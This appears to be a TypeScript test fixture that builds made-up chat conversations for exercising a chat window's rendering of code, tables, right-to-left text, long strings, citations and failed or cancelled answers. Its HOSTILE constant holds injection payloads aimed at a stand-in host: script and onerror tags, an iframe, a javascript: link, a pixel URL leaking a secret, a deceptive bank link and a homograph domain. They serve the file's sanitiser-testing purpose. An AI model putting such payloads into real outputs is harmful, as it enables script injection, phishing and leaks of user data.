/** The made-up conversations: each shows something that the window must do well. */
import type { Chat, Citation, Message, Part } from '../bindings/contract';
import { PAINTED } from './files';
import { answer, attempt, CHAIN, chatOf, question } from './world';

const [opus, sol] = CHAIN as [(typeof CHAIN)[0], (typeof CHAIN)[0]];

export const BORROW = `Because \`first\` still borrows from \`scores\` when you push. A push may move the vector's buffer, and the reference would then point at freed memory, so the compiler asks that the shared borrow end first.

Two fixes are idiomatic. The first is to end the borrow by copying the value out:

\`\`\`rust
let first = scores[0];      // i32 is Copy: no borrow remains
scores.push(4);
println!("{first}");
\`\`\`

The second is to take the reference *after* the push:

1. push what has to be pushed,
2. then borrow, and use the borrow at once.

| fix | borrow ends | cost |
| --- | --- | --- |
| copy the value | at once | one \`i32\` |
| borrow later | after its last use | none |

See the [chapter on references](https://doc.rust-lang.org/book/ch04-02-references-and-borrowing.html).`;

const overloaded = {
  failure: { class: 'overloaded' as const, status: 529, message: 'Overloaded' },
  finish: null,
  possibly_billed: false,
  took_ms: 2800,
  chars: 318,
  cost_usd: null,
};

function pair(text: string, make: (parent: string) => Message): Message[] {
  const asked = question(text, null);
  return [asked, make(asked.id)];
}

const BIDI = `العربية تُكتب من اليمين إلى اليسار، وتبقى الكلمات الإنجليزية مثل borrow checker في مكانها.

- النقطة الأولى
- النقطة الثانية`;

export const HOSTILE = `<img src="https://evil.example/leak.png" onerror="alert(1)"> <script>alert(2)</script>

![a remote picture](https://evil.example/pixel.gif?q=secret)

[https://bank.example](https://evil.example/login) and [run](javascript:alert(3)) and <https://user@xn--80ak6aa92e.com/>.

<iframe src="https://evil.example"></iframe>

![dot](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAoAAAAKCAYAAACNMs+9AAAAFUlEQVR42mNk+M9Qz0AEYBxVSF+FABJADveWkH6oAAAAAElFTkSuQmCC)`;

const citation = (url: string | null, title: string | null, quote: string | null = null): Citation => ({
  url,
  title,
  quote,
  start: null,
  end: null,
});

export const CITATIONS: Citation[] = [
  citation(
    'https://doc.rust-lang.org/book/ch04-02-references-and-borrowing.html',
    'References and Borrowing',
  ),
  citation(
    'https://en.wikipedia.org/wiki/Philosopher%27s_Walk',
    '哲学の道 – Philosopher’s Walk',
    'A pedestrian path that follows a cherry-tree-lined canal in Kyoto.',
  ),
  citation('https://www.japan-guide.example/e/e2158.html', null),
  citation('https://evil.example/login', 'https://bank.example'),
  citation(null, 'Notes from the field, 1998'),
];

export const cited = (one: Citation): Part => ({ kind: 'citation', citation: one, attempt: 0 });

export function madeUpChats(): Chat[] {
  const seamed = pair('Why does the borrow checker reject this, and what is the idiomatic fix?', (parent) => {
    const at = BORROW.indexOf('```rust');
    const message = answer(BORROW, parent, [attempt(0, opus, overloaded), attempt(1, sol)]);
    if (message.answer) {
      message.answer.seams = [{ from_attempt: 0, to_attempt: 1, at, mode: 'continue' }];
    }
    return message;
  });
  const early = pair('How long do I boil an egg?', (parent) =>
    answer(
      '**Six to seven minutes** for a soft yolk, ten for a hard one. Start counting when the water boils.',
      parent,
      [
        attempt(0, opus, { ...overloaded, chars: 0, took_ms: 400 }),
        attempt(1, sol, { took_ms: 2100, usage: { input: 20, output: 31 } }),
      ],
    ),
  );
  const failed = pair('Write the letter to the landlord about the heating.', (parent) =>
    answer(
      'Dear Ms Okafor,\n\nthe heating in flat 4 has been cold since Monday',
      parent,
      [
        attempt(0, opus, {
          ...overloaded,
          failure: {
            class: 'truncated',
            status: 200,
            message: 'The connection ended in the middle of the answer.',
          },
        }),
      ],
      { status: 'failed' },
    ),
  );
  const info = failed[1]?.answer;
  if (info) {
    info.failure = {
      code: 'truncated',
      message:
        'Claude Opus stopped in the middle of the answer: broke off. What was shown is kept; you can redo it.',
    };
  }
  const nothing = pair('Is anybody there?', (parent) =>
    answer(
      '',
      parent,
      [
        attempt(0, opus, { ...overloaded, chars: 0 }),
        attempt(1, sol, {
          failure: { class: 'unreachable', status: null, message: 'Connection refused' },
          finish: null,
          chars: 0,
          took_ms: 12,
        }),
      ],
      { status: 'failed' },
    ),
  );
  const none = nothing[1]?.answer;
  if (none) {
    none.lane = null;
    none.failure = {
      code: 'unreachable',
      message:
        'None of 2 models could answer. The last was GPT Sol: could not be reached. Connection refused. Your message is kept; you can try again.',
    };
  }
  const cancelled = pair('Tell me everything about pasta.', (parent) =>
    answer(
      'Pasta is made of durum wheat and',
      parent,
      [attempt(0, opus, { failure: { class: 'cancelled', status: null, message: '' }, finish: null })],
      {
        status: 'cancelled',
      },
    ),
  );
  const interrupted = pair('Compare three lenses for portraits.', (parent) =>
    answer(
      'For portraits, three classics stand out:\n\n- 50 mm\n- 85 mm',
      parent,
      [attempt(0, opus, { took_ms: null, finish: null })],
      {
        status: 'interrupted',
      },
    ),
  );
  const asked = question('What is on these, and what does the paper say about them?', null, PAINTED);
  const seen = answer(
    'A path along a canal, with cherry trees on both sides, and the same path at night. The paper calls it the Philosopher’s Walk and says that its lamps were put up in 1972.',
    asked.id,
    [attempt(0, opus, { cost_usd: 0.0042 })],
  );
  seen.parts.push(...CITATIONS.map(cited));
  const ok = (text: string) => (parent: string) => answer(text, parent, [attempt(0, opus)]);
  return [
    chatOf('c1', 'Why does the borrow checker reject this?', 0, [...seamed]),
    chatOf(
      'c2',
      'Trip to Kyoto: 三日間の計画',
      0,
      pair(
        '京都で三日間、何を見ればいい?',
        ok('三日間なら、**東山**、**嵐山**、**伏見**を一日ずつ回るのがおすすめです。🙂'),
      ),
    ),
    chatOf('c3', 'How long do I boil an egg?', 0, early),
    chatOf('c4', 'Letter to the landlord', 1, failed),
    chatOf('c5', 'Is anybody there?', 1, nothing),
    chatOf('c6', 'Pasta for six', 1, cancelled),
    chatOf('c7', 'Compare three lenses', 1, interrupted),
    chatOf('c8', 'الكتابة من اليمين إلى اليسار', 5, pair('اشرح اتجاه النص', ok(BIDI))),
    chatOf(
      'c9',
      'A title that is far longer than the sidebar is wide and goes on and on',
      6,
      pair(
        'Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaft'.repeat(3),
        ok(
          `${'unbreakable'.repeat(30)}\n\n\`${'code'.repeat(60)}\`\n\n\`\`\`text\n${'a long line of code '.repeat(20)}\n\`\`\`\n\n| ${'a | '.repeat(14)}\n|${' --- |'.repeat(14)}\n| ${'wide cell | '.repeat(14)}`,
        ),
      ),
    ),
    chatOf('c10', 'What a model may not do', 9, pair('Show me something hostile', ok(HOSTILE))),
    chatOf('c12', 'Pictures and a paper', 13, [asked, seen]),
    chatOf('c11', 'Zahlen auf Deutsch 🙂', 12, pair('Zähle bis drei', ok('eins, zwei, drei'))),
  ];
}
